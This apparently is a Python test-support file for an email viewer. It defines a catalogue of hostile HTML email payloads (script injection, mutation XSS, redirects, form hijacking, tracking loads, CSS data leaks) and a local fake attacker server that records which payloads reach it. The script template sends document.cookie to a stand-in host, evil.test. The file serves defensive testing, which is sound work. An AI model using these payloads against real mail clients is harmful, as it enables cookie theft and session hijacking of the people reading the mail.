# ruff: noqa: E501 - a payload is one line
"""Mail that attacks whoever looks at it: payloads by what they try, and the servers they try to reach.

In a payload `{h}` is the address of the attacker's server over HTTP, `{s}` over HTTPS, `{u}` the latter written as HTTP,
`{js}` a script that calls home, fit for an attribute in double quotes, `{id}` the id of another message.
"""

from __future__ import annotations

import asyncio
import ssl
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Final, cast

import trustme

HOST: Final = "evil.test"
JS: Final = "window.ran=1;top.postMessage('ran','*');new Image().src='{s}/ran?'+document.cookie;alert(1)"
PAYLOADS: Final[dict[str, str]] = {
    # scripts
    "script": "<script>{js}</script>",
    "script from elsewhere": "<script src='{s}/x.js'></script><script type=module>import '{s}/m.js'</script>",
    "script in svg": "<svg><script>{js}</script><script href='{s}/x.js'></script></svg>",
    "image error": '<img src=x onerror="{js}">',
    "body load": '<body onload="{js}">',
    "svg load": '<svg onload="{js}"><animate onbegin="{js}" attributeName=x dur=1s></svg>',
    "focus": '<input autofocus onfocus="{js}"><div tabindex=0 autofocus onfocus="{js}">x</div>',
    "toggle": '<details open ontoggle="{js}"><summary>x</summary></details>',
    "animation": '<style>@keyframes a{{}}</style><p style="animation:a 1s" onanimationstart="{js}">x</p>',
    "media error": '<video><source onerror="{js}" src=x></video><audio src=x onerror="{js}"></audio>',
    "marquee": '<marquee onstart="{js}">x</marquee>',
    "popover": '<button popovertarget=p>x</button><div id=p popover onbeforetoggle="{js}">y</div>',
    "javascript url": '<a href="javascript:{js}">x</a><a href="java&#9;script:{js}">y</a><area href="javascript:{js}">',
    "javascript url in svg": '<svg width=9 height=9><a href="javascript:{js}"><rect width=9 height=9 /></a></svg>',
    "javascript url in math": '<math><mtext href="javascript:{js}">x</mtext></math>',
    "javascript url in frames": '<iframe src="javascript:{js}"></iframe><embed src="javascript:{js}">',
    "javascript form": '<form action="javascript:{js}"><button>x</button></form>',
    "data page": "<a href='data:text/html,<script>{js}</script>'>x</a><object data='data:text/html,<script>{js}</script>'>",
    "data page in a frame": "<iframe src='data:text/html,<script>{js}</script>'></iframe>",
    "srcdoc": "<iframe srcdoc='<script>{js}</script>'></iframe><i/frame srcdoc='<script>{js}</script>'>",
    # markup that becomes other markup
    "mutation by math": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=&quot;{js}&quot;&gt;'>"
    ),
    "mutation by svg": '<svg></p><style><a id="</style><img src=x onerror=&quot;{js}&quot;>">',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=&quot;{js}&quot;>">',
    "mutation by textarea": "<textarea><p title=\"</textarea><img src=x onerror='{js}'>\"></textarea>",
    "mutation by comment": '<!--><img src=x onerror="{js}">--><!-- a --!><img src=x onerror="{js}">',
    "mutation by template": '<template><s><template><s><img src=x onerror="{js}"></s></template></s></template>',
    "half a tag": '<img src=x onerror="{js}" <iframe<iframe srcdoc="<script>{js}</script>">',
    "declarative shadow": '<div><template shadowrootmode=open><img src=x onerror="{js}"></template></div>',
    "document type": '<!doctype html [<!ENTITY x "<script>{js}</script>">]><!-- > --><script>{js}</script>',
    "conditional comment": "<!--[if gte mso 9]><script>{js}</script><![endif]--><?xml-stylesheet href='{s}/x.css'?>",
    # going away, and taking the page along
    "refresh": "<meta http-equiv=refresh content='0;url={h}/refresh'>",
    "refresh to script": '<meta http-equiv=refresh content="0;url=javascript:{js}">',
    "base": "<base href='{s}/'><img src=open.gif><a href=go>x</a><form action=f><button>y</button></form>",
    "link to the top": "<a href='{h}/top' target=_top>x</a><a href='{h}/parent' target=_parent>y</a>",
    "link in the frame": "<a href='{h}/self' target=_self>x</a><a href='{h}/quoted'target=preview>y</a><a/target=''href='{h}/z'>z</a>",
    "link in svg and math": "<svg width=50 height=50><a href='{h}/svg'><rect width=50 height=50 /></a></svg><math><mi href='{h}/mi' tabindex=0>x</mi></math>",
    "link in svg that is moved": "<svg width=50 height=50><a href='{h}/moved'><set attributeName=target to=_self begin=0s /><rect width=50 height=50 /></a></svg>",
    "link in svg that becomes a script": '<svg width=50 height=50><a><animate attributeName=href values="javascript:{js}" begin=0s fill=freeze /><rect width=50 height=50 /></a></svg>',
    "link in svg in the frame": "<svg width=50 height=50><a xlink:href='{h}/xlink' target=_self><rect width=50 height=50 /></a></svg>",
    "link to another window": "<a href='{h}/new' target=_blank rel=opener>x</a><a href='{h}/named' target=other>y</a>",
    "area": "<img usemap=#m width=50 height=50 alt=x><map name=m><area coords=0,0,50,50 href='{h}/area' target=_top></map>",
    "download": "<a href='{h}/file' download=x.exe>x</a><a href='data:application/x-msdownload,MZ' download=y.exe>y</a>",
    "ping": "<a href=#x ping='{h}/ping'>x</a>",
    "another program": "<a href='ms-settings:x'>x</a><a href='intent:#Intent;end'>y</a><a href='mailto:a@b.c'>z</a>",
    # forms
    "form": "<form action='{h}/form' method=post><input name=a value=b><button>x</button></form>",
    "form to the top": "<form action='{h}/form' target=_top><input type=submit></form>",
    "form action of a button": "<form id=f></form><button form=f formaction='{h}/fa'>x</button><input type=image form=f formaction='{s}/fi' src='{s}/i.png'>",
    "form to the hub": "<form action='/messages/{id}/cancel' method=post target=_top><button>x</button></form>",
    "form in a dialog": "<dialog open><form action='{h}/d' method=get><button>x</button></form></dialog>",
    # what is loaded without asking
    "preload": "<link rel=preload href='{s}/p' as=script><link rel=modulepreload href='{s}/mp'><link rel=prefetch href='{s}/pf'>",
    "names looked up": "<link rel=dns-prefetch href='//dns.evil.test'><link rel=preconnect href='{s}' crossorigin>",
    "names of links": "<meta http-equiv=x-dns-prefetch-control content=on><a href='https://linked.evil.test/'>x</a>",
    "prerender": '<link rel=prerender href=\'{s}/pr\'><script type=speculationrules>{{"prerender":[{{"urls":["{s}/sr"]}}]}}</script>',
    "style sheet": "<link rel=stylesheet href='{s}/x.css'><LINK/rel=stylesheet/href='{s}/y.css'><style>@import '{s}/i.css';</style>",
    "icon and manifest": "<link rel=icon href='{s}/i.ico'><link rel=manifest href='{s}/m.json'>",
    "frames": "<iframe src='{h}/i'></iframe><frameset><frame src='{h}/f'></frameset><fencedframe src='{s}/ff'></fencedframe>",
    "plug-ins": "<object data='{h}/o'><param name=url value='{h}/p'></object><embed src='{h}/e'><applet code='{h}/a'></applet>",
    "media": "<video src='{h}/v' autoplay></video><audio src='{h}/a' autoplay></audio><video><track default src='{h}/t'></video>",
    "font": "<style>@font-face{{font-family:e;src:url('{s}/font')}} p{{font-family:e}}</style><p>x</p>",
    "attribute read by a style": "<style>input[value^=s]{{--x:url({u}/s);background:var(--x)}}</style><input value=secret>",
    "outer svg": "<svg><use href='{s}/u.svg#a'/><filter id=f><feImage href='{u}/fe.png'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    "policy of its own": "<meta http-equiv=Content-Security-Policy content='default-src *; script-src * \"unsafe-inline\"'><script>{js}</script>",
    "cookies": "<meta http-equiv=set-cookie content='emailhub_session=stolen; path=/'><script>{js}</script>",
    "xml": "<?xml version='1.0'?><!DOCTYPE x SYSTEM '{s}/x.dtd'><x xmlns:xlink='x' xlink:href='{s}/x'/>",
    # images: those over https come when somebody asks for them
    "image": "<img src='{s}/image.gif'><img src='{s}/image2.gif' loading=lazy referrerpolicy=unsafe-url>",
    "image set": "<img srcset='{s}/set.gif 1x'><picture><source srcset='{s}/picture.gif'><img src=x></picture>",
    "background": "<table background='{s}/table.gif'><tr><td style='background:url({s}/cell.gif)'>x</table>",
    "poster": "<video poster='{s}/poster.gif' width=50 height=50></video>",
    "referrer": "<meta name=referrer content=unsafe-url><img src='{s}/referrer.gif' referrerpolicy=unsafe-url crossorigin=use-credentials>",
    "style image": "<style>li{{list-style-image:url({s}/list.gif)}} p::before{{content:url({s}/before.gif)}}</style><li>x<p>y",
    "svg image": "<svg width=50 height=50><image href='{s}/svg.gif' width=50 height=50 /></svg>",
    "image over http": "<img src='{u}/plain.gif'><body background='{u}/body.gif'>",
    "picture that is a page": "<img src='cid:page@evil'><a href='cid:page@evil'>x</a><iframe src='cid:page@evil'></iframe>",
    "picture that is a drawing": "<img src='cid:draw@evil'><object data='cid:draw@evil'></object><svg><use href='cid:draw@evil#a'/></svg>",
    "picture with a wrong name": "<img src='cid:\" onerror=\"{js}'><style>p{{background:url(cid:);}}</style>",
}
IMAGES: Final = (
    "image.gif", "image2.gif", "set.gif", "picture.gif", "table.gif", "cell.gif", "poster.gif", "list.gif", "before.gif",
    "svg.gif", "plain.gif", "body.gif",
)  # fmt: skip
"""What must come when somebody asks for the images: otherwise nothing is proved by what does not."""


class Visit:
    """A connection to the attacker: how it began, b"" when it said nothing."""

    def __init__(self, scheme: str, head: bytes) -> None:
        self.scheme = scheme
        self.head = head
        line, *fields = head.decode("latin-1").split("\r\n")
        self.path = line.split(" ")[1] if line.count(" ") == 2 else ""
        self.fields = {name.lower(): value.strip() for name, _, value in (one.partition(":") for one in fields)}

    def __repr__(self) -> str:
        return f"{self.scheme} {self.head[:200]!r}"


class Attacker:
    """Where the payloads want to go."""

    def __init__(self) -> None:
        self.visits: list[Visit] = []
        self.open: dict[asyncio.Transport, asyncio.Event] = {}
        """Connections, and that they ended."""
        self.http = self.https = ""

    def filled(self, text: str, id: str) -> str:
        """A payload with the attacker's addresses, against the message `id`."""
        return text.format(
            h=self.http, s=self.https, u=self.https.replace("s:", ":"), id=id, js=JS.format(s=self.https)
        )

    async def hang_up(self) -> None:
        """End what nobody ended."""
        for transport, ended in list(self.open.items()):
            transport.abort()
            await ended.wait()

    def at(self, scheme: str) -> asyncio.Protocol:
        return _Listener(self, scheme)


class _Listener(asyncio.Protocol):
    """Answers nobody, remembers everybody."""

    def __init__(self, attacker: Attacker, scheme: str) -> None:
        self._attacker, self._scheme, self._heard = attacker, scheme, b""

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self._transport = cast("asyncio.Transport", transport)
        self._attacker.open[self._transport] = asyncio.Event()

    def data_received(self, data: bytes) -> None:
        self._heard += data
        if b"\r\n\r\n" in self._heard:
            self._transport.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            self._transport.close()

    def connection_lost(self, exc: Exception | None) -> None:
        self._attacker.open.pop(self._transport).set()
        self._attacker.visits.append(Visit(self._scheme, self._heard))


@asynccontextmanager
async def attacking() -> AsyncIterator[Attacker]:
    """The attacker's servers, listening."""
    attacker, loop = Attacker(), asyncio.get_running_loop()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    trustme.CA().issue_cert(HOST).configure_cert(context)
    http = await loop.create_server(lambda: attacker.at("http"), "127.0.0.1", 0)
    https = await loop.create_server(lambda: attacker.at("https"), "127.0.0.1", 0, ssl=context)
    async with http, https:
        attacker.http = f"http://{HOST}:{http.sockets[0].getsockname()[1]}"
        attacker.https = f"https://{HOST}:{https.sockets[0].getsockname()[1]}"
        yield attacker
        await attacker.hang_up()
